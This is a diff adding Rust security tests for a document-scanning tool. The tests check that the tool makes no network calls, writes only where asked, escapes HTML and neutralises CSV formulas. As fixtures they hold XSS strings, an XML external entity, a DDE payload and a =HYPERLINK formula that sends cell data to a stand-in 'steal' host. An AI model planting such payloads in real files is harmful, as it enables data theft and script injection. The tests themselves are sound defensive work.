@@ -1,0 +1,387 @@
+//! Security properties of the real binary: it makes no network requests (traced), writes nothing
+//! but the output it is asked for, escapes document text in HTML and neutralises formulas in CSV
+//! (with adversarial text and file names), and refuses a custom library with a bad pattern, naming
+//! the file and line, before anything is run.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::SystemTime;
+
+use crate::common::root;
+
+fn bin() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_aiassure"))
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// A folder of inputs that invite network access: remote images, stylesheets and scripts in
+/// HTML, an external entity and external links in a DOCX, URLs in text; plus the example bids.
+fn inviting_inputs(dir: &Path) {
+    std::fs::write(
+        dir.join("remote.html"),
+        r#"<html><head><link rel="stylesheet" href="http://192.0.2.1/s.css"><script src="https://192.0.2.1/x.js"></script></head>
+<body><img src="http://192.0.2.1/pixel.gif"><iframe src="https://example.com/"></iframe>
+<p>The Supplier shall not use Buyer Data to train any artificial intelligence model. See <a href="https://example.com/policy">policy</a>.</p></body></html>"#,
+    )
+    .expect("write");
+    std::fs::write(
+        dir.join("links.txt"),
+        "Terms at https://example.com/terms and \\\\fileserver\\share\\terms.docx and file:///etc/hosts.\n",
+    )
+    .expect("write");
+    let doc = r#"<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY ext SYSTEM "http://192.0.2.1/e.txt">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>Our chatbot uses a large language model &ext;.</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"#;
+    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://192.0.2.1/" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="http://192.0.2.1/styles.xml" TargetMode="External"/></Relationships>"#;
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default();
+    for (name, body) in [
+        ("word/document.xml", doc),
+        ("word/_rels/document.xml.rels", rels),
+    ] {
+        zip.start_file(name, opts).expect("zip");
+        std::io::Write::write_all(&mut zip, body.as_bytes()).expect("zip");
+    }
+    std::fs::write(
+        dir.join("external.docx"),
+        zip.finish().expect("zip").into_inner(),
+    )
+    .expect("write");
+    for f in ["bids/civic-systems-response.txt", "contracts/cloudnote-saas-terms.pdf"] {
+        let from = root().join("fixtures/examples").join(f);
+        let to = dir.join(Path::new(f).file_name().expect("name"));
+        std::fs::copy(from, to).expect("copy an example");
+    }
+}
+
+/// True when `strace` can trace a child here (it is installed and ptrace is allowed).
+fn strace_works() -> bool {
+    Command::new("strace")
+        .args(["-f", "-e", "trace=network", "-o", "/dev/null", "true"])
+        .output()
+        .is_ok_and(|o| o.status.success())
+}
+
+/// The tool makes no network requests: every command that reads documents runs under
+/// `strace -f -e trace=network`, and no socket of an internet family is opened, connected or
+/// written to. Where strace cannot run, the commands run in a namespace with no network at all
+/// (`unshare -rn`) and must still work.
+#[test]
+fn makes_no_network_requests() {
+    let input = tempfile::tempdir().expect("scratch");
+    inviting_inputs(input.path());
+    let out = tempfile::tempdir().expect("scratch");
+    let i = input.path().to_str().expect("UTF-8");
+    let o = |name: &str| out.path().join(name).to_string_lossy().into_owned();
+    let index = o("index");
+    let commands: Vec<Vec<String>> = vec![
+        vec!["scan", i, "--format", "html", "-o", &o("r.html"), "--fail-on", "never"],
+        vec!["scan", i, "--format", "json", "-o", &o("r.json"), "--fail-on", "never"],
+        vec!["extract", i, "--format", "json", "-o", &o("e.json")],
+        vec!["index", i, "--index", &index, "-q"],
+        vec!["search", "chatbot", "--index", &index],
+        vec![
+            "redline",
+            &format!("{i}/external.docx"),
+            "-o",
+            &o("red.docx"),
+        ],
+    ]
+    .into_iter()
+    .map(|v| v.into_iter().map(String::from).collect())
+    .collect();
+    let bin = env!("CARGO_BIN_EXE_aiassure");
+    if strace_works() {
+        for args in &commands {
+            let log = out.path().join("trace.log");
+            let o = Command::new("strace")
+                .args(["-f", "-qq", "-e", "trace=network", "-o"])
+                .arg(&log)
+                .arg(bin)
+                .args(args)
+                .output()
+                .expect("strace runs");
+            assert!(
+                matches!(o.status.code(), Some(0 | 1)),
+                "{args:?}: {}",
+                text(&o.stderr)
+            );
+            let trace = std::fs::read_to_string(&log).expect("trace log");
+            let calls: Vec<&str> = trace.lines().filter(|l| l.contains('(')).collect();
+            for line in &calls {
+                assert!(
+                    !line.contains("AF_INET") && !line.contains("AF_PACKET"),
+                    "{args:?} used the network: {line}"
+                );
+                assert!(
+                    !line.contains("connect(") && !line.contains("sendto(") && !line.contains("sendmsg("),
+                    "{args:?}: {line}"
+                );
+            }
+            println!("{}: {} network calls traced", args[0], calls.len());
+        }
+        return;
+    }
+    let unshared = Command::new("unshare")
+        .args(["-rn", "true"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !unshared {
+        eprintln!("skipped: neither strace nor unshare -rn can run here");
+        return;
+    }
+    for args in &commands {
+        let o = Command::new("unshare")
+            .args(["-rn", bin])
+            .args(args)
+            .output()
+            .expect("unshare runs");
+        assert!(
+            matches!(o.status.code(), Some(0 | 1)),
+            "{args:?} without a network: {}",
+            text(&o.stderr)
+        );
+    }
+    println!("strace unavailable: every command worked in a namespace with no network");
+}
+
+/// The source has no networking code and the dependency tree no HTTP or socket crate: a new
+/// one fails this test and has to be justified.
+#[test]
+fn no_networking_code_or_crates() {
+    let mut stack = vec![root().join("src")];
+    while let Some(dir) = stack.pop() {
+        for e in std::fs::read_dir(&dir).expect("src").flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                stack.push(p);
+            } else if p.extension().is_some_and(|x| x == "rs") {
+                let src = std::fs::read_to_string(&p).expect("source");
+                for banned in ["std::net", "TcpStream", "UdpSocket", "ToSocketAddrs"] {
+                    assert!(!src.contains(banned), "{} uses {banned}", p.display());
+                }
+            }
+        }
+    }
+    let lock = std::fs::read_to_string(root().join("Cargo.lock")).expect("Cargo.lock");
+    for name in [
+        "reqwest", "hyper", "ureq", "curl", "tokio", "mio", "socket2", "rustls", "native-tls",
+        "h2", "attohttpc", "isahc",
+    ] {
+        assert!(
+            !lock.contains(&format!("\nname = \"{name}\"\n")),
+            "Cargo.lock has the networking crate {name}"
+        );
+    }
+}
+
+/// Files under `dir` with their size and modification time.
+fn listing(dir: &Path) -> BTreeMap<PathBuf, (u64, SystemTime)> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let p = e.path();
+            let meta = std::fs::symlink_metadata(&p).expect("metadata");
+            if meta.is_dir() {
+                stack.push(p.clone());
+            }
+            let rel = p.strip_prefix(dir).unwrap_or(&p).to_path_buf();
+            out.insert(rel, (meta.len(), meta.modified().expect("mtime")));
+        }
+    }
+    out
+}
+
+/// A scan writes only the `-o` file: nothing in the working folder, the input folder, the home
+/// folder or the temporary folder; without `-o` it writes nothing at all.
+#[test]
+fn writes_only_where_asked() {
+    let input = tempfile::tempdir().expect("scratch");
+    inviting_inputs(input.path());
+    let (cwd, home, tmp) = (
+        tempfile::tempdir().expect("scratch"),
+        tempfile::tempdir().expect("scratch"),
+        tempfile::tempdir().expect("scratch"),
+    );
+    let run = |args: &[&str]| -> Output {
+        bin()
+            .args(args)
+            .current_dir(cwd.path())
+            .env("HOME", home.path())
+            .env("XDG_CACHE_HOME", home.path().join(".cache"))
+            .env("TMPDIR", tmp.path())
+            .output()
+            .expect("runs")
+    };
+    let before = [
+        listing(input.path()),
+        listing(home.path()),
+        listing(tmp.path()),
+    ];
+    let i = input.path().to_str().expect("UTF-8");
+    for (args, written) in [
+        (vec!["scan", i, "--format", "json", "--fail-on", "never"], None),
+        (vec!["scan", i, "--fail-on", "never", "-j", "2"], None),
+        (vec!["extract", i, "--format", "json"], None),
+        (
+            vec!["scan", i, "--format", "html", "-o", "report.html", "--fail-on", "never"],
+            Some("report.html"),
+        ),
+        (
+            vec!["scan", i, "--format", "csv", "--output", "r.csv", "--fail-on", "never"],
+            Some("r.csv"),
+        ),
+        (vec!["extract", i, "-o", "text.txt"], Some("text.txt")),
+    ] {
+        let o = run(&args);
+        assert!(o.status.success(), "{args:?}: {}", text(&o.stderr));
+        let now = listing(cwd.path());
+        let names: Vec<String> = now.keys().map(|p| p.display().to_string()).collect();
+        match written {
+            Some(name) => {
+                assert_eq!(names, [name], "{args:?} wrote only its output");
+                std::fs::remove_file(cwd.path().join(name)).expect("remove");
+            }
+            None => {
+                assert!(names.is_empty(), "{args:?} wrote {names:?}");
+                assert!(!o.stdout.is_empty(), "{args:?} wrote to standard output");
+            }
+        }
+        let after = [
+            listing(input.path()),
+            listing(home.path()),
+            listing(tmp.path()),
+        ];
+        assert_eq!(
+            before, after,
+            "{args:?} changed the input, home or temporary folder"
+        );
+    }
+    // A failed run (bad library) writes no report at all, not even an empty one.
+    let bad = tempfile::tempdir().expect("scratch");
+    std::fs::write(bad.path().join("rules.toml"), "[[rule]\nid = ").expect("write");
+    let b = bad.path().to_str().expect("UTF-8");
+    let o = run(&["scan", i, "--library", b, "-o", "report.json"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(listing(cwd.path()).is_empty(), "no report after an error");
+}
+
+/// Markup and formulas in a bid, and in its file name, stay inert in every report.
+#[test]
+fn adversarial_text_is_escaped_and_neutralised() {
+    let dir = tempfile::tempdir().expect("scratch");
+    let bid = "TENDER RESPONSE\n\n\
+        Q3 Will artificial intelligence or machine learning be used in the delivery of the service?\n\n\
+        Yes. Residents chat with CareBot <script>alert('bid')</script><img src=x onerror=alert(1)>, an AI chatbot that answers questions using a large language model.\n\n\
+        =HYPERLINK(\"http://192.0.2.1/steal?\"&A1,\"Click\") Our AI system uses facial recognition to verify visitors.\n\n\
+        +cmd|' /C calc'!A0 The model is trained on resident case notes.\n\n\
+        @SUM(1+1) We use automated decision-making to prioritise repairs.\n";
+    let names = [
+        "=HYPERLINK(\"http-x\").txt",
+        "<img src=x onerror=alert(1)>.md",
+        "-2+3 bid.txt",
+    ];
+    for n in names {
+        std::fs::write(dir.path().join(n), bid).expect("write");
+    }
+    let run = |format: &str| -> String {
+        let mut args = vec!["scan", "--format", format, "--fail-on", "never", "-q"];
+        args.extend(names);
+        let o = bin()
+            .args(&args)
+            .current_dir(dir.path())
+            .output()
+            .expect("runs");
+        assert!(o.status.success(), "{}", text(&o.stderr));
+        text(&o.stdout)
+    };
+    let json: serde_json::Value = serde_json::from_str(&run("json")).expect("json");
+    let quoted = json.to_string();
+    assert!(
+        quoted.contains("<script>alert('bid')</script>") && quoted.contains("=HYPERLINK("),
+        "the hostile text reaches the report as evidence (else this test proves nothing): {quoted}"
+    );
+
+    let html = run("html");
+    let lower = html.to_lowercase();
+    for banned in ["<script", "<img", "onerror=alert", "<iframe"] {
+        assert!(
+            !lower.contains(banned),
+            "HTML report contains raw {banned}"
+        );
+    }
+    assert!(html.contains("&lt;script&gt;"), "document text is escaped");
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;.md"), "file names are escaped");
+
+    let md = run("markdown");
+    assert!(!md.to_lowercase().contains("<script") && !md.contains("<img"));
+
+    let csv = run("csv");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV row")).collect();
+    assert!(rows.len() > 3);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "formula-like cell {cell:?}"
+            );
+        }
+    }
+    let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
+    assert!(cells.contains(&"'=HYPERLINK(\"http-x\").txt"), "file name neutralised");
+    assert!(cells.contains(&"'-2+3 bid.txt"));
+    assert!(
+        cells.iter().any(|c| c.starts_with("'=HYPERLINK(\"http://192.0.2.1")
+            || c.contains("=HYPERLINK(\"http://192.0.2.1")),
+        "the formula in the evidence is kept as text"
+    );
+}
+
+/// A custom library whose pattern is invalid, or too large to compile safely, is refused with its
+/// file and line by `rules --check` and by `scan --library`, and nothing is run.
+#[test]
+fn bad_patterns_in_a_custom_library_are_rejected_with_file_and_line() {
+    let rules = std::fs::read_to_string(root().join("fixtures/library-invalid/bad-regex/rules.toml"))
+        .expect("fixture");
+    let line = rules
+        .lines()
+        .position(|l| l.contains("re:(checked|reviewed"))
+        .expect("the bad pattern")
+        + 1;
+    for (name, pattern) in [
+        ("unclosed", r#"["re:(checked|reviewed"],"#),
+        ("huge", r#"["re:(\\w{1000}){1000}"],"#),
+        ("backreference", r#"["re:(a)\\1"],"#),
+    ] {
+        let dir = tempfile::tempdir().expect("scratch");
+        let body: Vec<String> = rules
+            .lines()
+            .enumerate()
+            .map(|(i, l)| if i + 1 == line { format!("  {pattern}") } else { l.to_string() })
+            .collect();
+        std::fs::write(dir.path().join("rules.toml"), body.join("\n")).expect("write");
+        let d = dir.path().to_str().expect("UTF-8");
+        let o = bin().args(["rules", "--check", d]).output().expect("runs");
+        let err = text(&o.stderr);
+        assert_eq!(o.status.code(), Some(2), "{name}: {err}");
+        assert!(
+            err.contains(&format!("rules.toml:{line}:")) && err.contains("nothing was run"),
+            "{name}: file and line in {err}"
+        );
+        assert!(o.stdout.is_empty(), "{name}: no example was run");
+        let report = dir.path().join("report.json");
+        let o = bin()
+            .args(["scan", "fixtures/examples", "--library", d, "-o"])
+            .arg(&report)
+            .current_dir(root())
+            .output()
+            .expect("runs");
+        assert_eq!(o.status.code(), Some(2), "{name}");
+        assert!(text(&o.stderr).contains(&format!("rules.toml:{line}:")), "{name}");
+        assert!(!report.exists(), "{name}: no scan ran");
+    }
+}
